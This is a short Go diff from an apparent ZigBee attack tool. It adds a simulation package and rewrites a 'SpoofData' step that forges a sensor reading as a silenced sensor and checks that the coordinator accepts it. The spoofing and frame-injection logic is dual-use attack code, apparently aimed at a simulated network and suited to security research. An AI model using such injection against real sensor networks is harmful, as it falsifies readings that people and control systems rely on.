@@ -14,6 +14,7 @@ import (
 	"wazabee/internal/ieee802154"
 	"wazabee/internal/obs"
 	"wazabee/internal/zigbee"
+	"wazabee/internal/zigbee/sim"
 )
 
 // Air is the attacker's radio environment: transmit a waveform on an
@@ -182,14 +183,15 @@ func (t *Tracker) InjectChannelChange(info *NetworkInfo, sensor uint16, newChann
 	return nil
 }
 
-// SpoofData is step 4: transmit a fake reading, mimicking the silenced
-// sensor, and verify the coordinator acknowledged it.
+// SpoofData is step 4: transmit a fake reading in the victim network's
+// reading format, mimicking the silenced sensor, and verify the
+// coordinator acknowledged it.
 func (t *Tracker) SpoofData(info *NetworkInfo, sensor uint16, value uint16) error {
 	if info == nil {
 		return fmt.Errorf("attack: nil network info")
 	}
 	t.seq++
-	frame := ieee802154.NewDataFrame(t.seq, info.PAN, info.Coordinator, sensor, zigbee.SensorPayload(value), true)
+	frame := ieee802154.NewDataFrame(t.seq, info.PAN, info.Coordinator, sensor, sim.ReadingPayload(value, 0), true)
 	reply, err := t.sendFrame(frame, info.Channel)
 	if err != nil {
 		return err
